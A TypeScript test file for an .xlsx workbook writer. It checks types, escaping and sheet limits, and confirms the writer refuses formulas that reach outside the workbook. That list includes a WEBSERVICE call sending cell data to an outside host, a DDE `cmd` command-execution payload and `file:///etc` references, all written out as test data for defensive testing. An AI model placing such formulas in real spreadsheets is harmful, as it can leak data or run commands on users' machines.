import { describe, expect, test } from 'vitest'
import { readSheet, readTables } from '../../../../main/documents/read-document'
import type { CellValue } from '../../../../main/documents/writing/sheet-content'
import { workbookXlsx } from '../../../../main/documents/writing/workbook-xlsx'

const request = () => ({ signal: new AbortController().signal })

async function cellsOf(rows: CellValue[][]): Promise<(string | null)[][]> {
  const bytes = await workbookXlsx([{ name: 'One', rows }])
  const grid = await readSheet({ path: 'made.xlsx', bytes }, undefined, request())
  return grid?.rows.map(row => row.cells.map(cell => cell?.text ?? null)) ?? []
}

describe('a workbook', () => {
  test('has numbers, truth values, dates and texts as such', async () => {
    const bytes = await workbookXlsx([
      {
        name: 'Sales',
        rows: [
          ['Item', 'Amount', 'Day', 'Paid'],
          ['Bolt & <nut>', 12.5, '2026-05-31', true],
        ],
      },
    ])
    const read = await readTables({ path: 'made.xlsx', bytes }, 5, request())
    expect(read?.tables[0]?.columns.map(({ name, types }) => [name, Object.keys(types)])).toEqual([
      ['Item', ['text']],
      ['Amount', ['number']],
      ['Day', ['date']],
      ['Paid', ['boolean']],
    ])
  })

  test('keeps a text a text after an apostrophe, and one that is no day', async () => {
    expect(await cellsOf([['a'], ["'007"], ["'=1+1"], ['2026-02-30'], ["'2026-05-31"]])).toEqual([
      ['a'],
      ['007'],
      ['=1+1'],
      ['2026-02-30'],
      ['2026-05-31'],
    ])
  })

  test('has formulas, also with signs that XML has for itself', async () => {
    const formulas = ['=SUM(A2:A3)', '=IF(A2<1,"a|b & [c]","")', '=A2&"x"']
    expect(await cellsOf([['a', 'b', 'c'], formulas])).toEqual([['a', 'b', 'c'], formulas])
  })

  test.each([
    '=WEBSERVICE("http://a.org/?"&A1)',
    "=cmd|'/c calc'!A1",
    '=[Book2.xlsx]Sheet1!A1',
    "='C:\\x\\[b.xlsx]S'!A1",
    '=hyperlink("http://a.org","x")',
    '=IF(1,IMAGE ("http://a.org/a.png"))',
    '=RTD("x",,"y")',
    '=_xlfn.WEBSERVICE(A1)',
    '=CUBEVALUE("a","b")',
    "='http://a.org/x.xlsx'!A1",
    "='file:///etc/x'!A1",
  ])('is refused with the formula %s', async formula => {
    await expect(workbookXlsx([{ name: 'One', rows: [['a'], [formula]] }])).rejects.toThrow(/A2 \(One\) reaches out/)
  })

  test.each([
    [[], 'at least one sheet'],
    [[{ name: '', rows: [] }], 'can’t be the name'],
    [[{ name: 'a/b', rows: [] }], 'can’t be the name'],
    [[{ name: 'x'.repeat(32), rows: [] }], 'can’t be the name'],
    [
      [
        { name: 'One', rows: [] },
        { name: 'ONE', rows: [] },
      ],
      'two sheets',
    ],
    [[{ name: 'One', rows: [['a'], ['x'.repeat(32_768)]] }], 'A2 (One) has more than'],
    [[{ name: 'One', rows: Array.from({ length: 501 }, () => Array(1_000).fill(1)) }], '501000 cells'],
  ])('is refused where Excel could not open it: %#', async (sheets, reason) => {
    await expect(workbookXlsx(sheets)).rejects.toThrow(reason)
  })

  test('leaves out what XML cannot have', async () => {
    expect(await cellsOf([['a\u0000b\u001F'], ['\uD83D!']])).toEqual([['ab'], ['!']])
  })

  test('can be empty', async () => {
    const bytes = await workbookXlsx([{ name: 'One', rows: [] }])
    expect((await readTables({ path: 'made.xlsx', bytes }, 5, request()))?.tables).toHaveLength(1)
  })
})
